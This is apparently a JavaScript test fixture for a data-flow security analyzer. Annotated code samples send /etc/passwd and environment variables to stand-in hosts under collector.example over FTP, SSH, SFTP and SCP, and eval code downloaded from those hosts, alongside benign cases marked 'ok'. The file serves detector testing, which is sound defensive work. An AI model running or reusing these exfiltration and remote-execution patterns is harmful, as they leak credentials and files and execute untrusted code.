// FTP and SSH.
const axios = require("axios");
const ftp = require("basic-ftp");
const scp = require("scp2");
const SftpClient = require("ssh2-sftp-client");
const ssh2 = require("ssh2");

const U = "https://collector.example/u";

async function withFtp() {
  const client = new ftp.Client(); //~ capability(NETWORK)
  await client.access({ host: "ftp.collector.example" }); //~ capability(NETWORK), endpoint("ftp.collector.example")
  await client.uploadFrom("/etc/passwd", "p"); //~ source(FILE) f1, sink(egress.ftp) f1, finding(traced) f1, capability(FILES)
  await client.send("STOR " + process.env.T); //~ source(ENVIRONMENT) f2, sink(egress.ftp) f2, finding(traced) f2
  client.get("run.js", (err, stream) => eval(stream)); //~ source(NETWORK) f3, sink(exec.code) f3, finding(traced) f3
}

async function withFtpQuiet() {
  const client = new ftp.Client(); //~ ok
  await client.access({ host: "ftp.collector.example" }); //~ ok
  await client.send("NOOP"); //~ ok
  axios.post(U, { has: client.uploadFrom === undefined }); //~ ok
  client.get("run.js", (err) => eval(err)); //~ ok
}

async function ftpDownload() {
  const client = new ftp.Client();
  await client.downloadTo("/tmp/run1.js", "run.js"); //~ source(NETWORK) f4
  require("/tmp/run1.js");
  eval(require("fs").readFileSync("/tmp/run1.js")); //~ sink(exec.code) f4, finding(traced) f4
  await client.downloadTo("/tmp/quiet.js", "run.js"); //~ ok
}

function withSsh() {
  const client = new ssh2.Client(); //~ capability(NETWORK)
  client.connect({ host: "ssh.collector.example" }); //~ capability(NETWORK), endpoint("ssh.collector.example")
  client.exec("echo " + process.env.T, () => null); //~ source(ENVIRONMENT) f5, sink(egress.ssh) f5, finding(traced) f5
  client.exec("run", (err, channel) => { //~ source(NETWORK) f6
    channel.write(process.env.T); //~ source(ENVIRONMENT) f7, sink(egress.ssh) f7, finding(traced) f7
    eval(channel); //~ sink(exec.code) f6, finding(traced) f6
  });
  client.shell((err, channel) => { //~ source(NETWORK) f8
    channel.write("ls"); //~ ok
    eval(channel); //~ sink(exec.code) f8, finding(traced) f8
  });
}

function withSshQuiet() {
  const client = new ssh2.Client(); //~ ok
  client.connect({ host: "ssh.collector.example" }); //~ ok
  client.exec("ls", (err) => eval(err)); //~ ok
  client.shell((err) => eval(err)); //~ ok
}

function withSftp() {
  const client = new ssh2.Client();
  client.sftp((err, sftp) => {
    sftp.fastPut("/etc/passwd", "p", () => null); //~ source(FILE) f9, sink(egress.ssh) f9, finding(traced) f9, capability(FILES)
    sftp.writeFile("/p", process.env.T); //~ source(ENVIRONMENT) f10, sink(egress.ssh) f10, finding(traced) f10
    sftp.createWriteStream("/p").write(process.env.T); //~ source(ENVIRONMENT) f11, sink(egress.ssh) f11, finding(traced) f11
    sftp.createWriteStream("/p").write("ping"); //~ ok
    sftp.writeFile("/p", "ping"); //~ ok
  });
  client.sftp((err) => eval(err)); //~ ok
}

async function withSftpClient() {
  const client = new SftpClient(); //~ capability(NETWORK)
  await client.connect({ host: "sftp.collector.example" }); //~ capability(NETWORK), endpoint("sftp.collector.example")
  await client.put(process.env.T, "p"); //~ source(ENVIRONMENT) f12, sink(egress.ssh) f12, finding(traced) f12, source(FILE) f13, sink(egress.ssh) f13, finding(traced) f13
  eval(await client.get("run.js")); //~ source(NETWORK) f14, sink(exec.code) f14, finding(traced) f14
  axios.post(U, { has: client.put === undefined }); //~ ok
  axios.post(U, { none: (await client.get("run.js")) === null }); //~ ok
  await new SftpClient().connect({ host: "sftp.collector.example" }); //~ ok
  await new (require("ssh2-sftp-client"))().connect({}); //~ ok
}

function withScp() {
  scp.scp("/etc/passwd", { host: "scp.collector.example" }, () => null); //~ source(FILE) f15, sink(egress.ssh) f15, finding(traced) f15, capability(NETWORK)
  axios.post(U, { has: scp.scp === undefined }); //~ ok
}
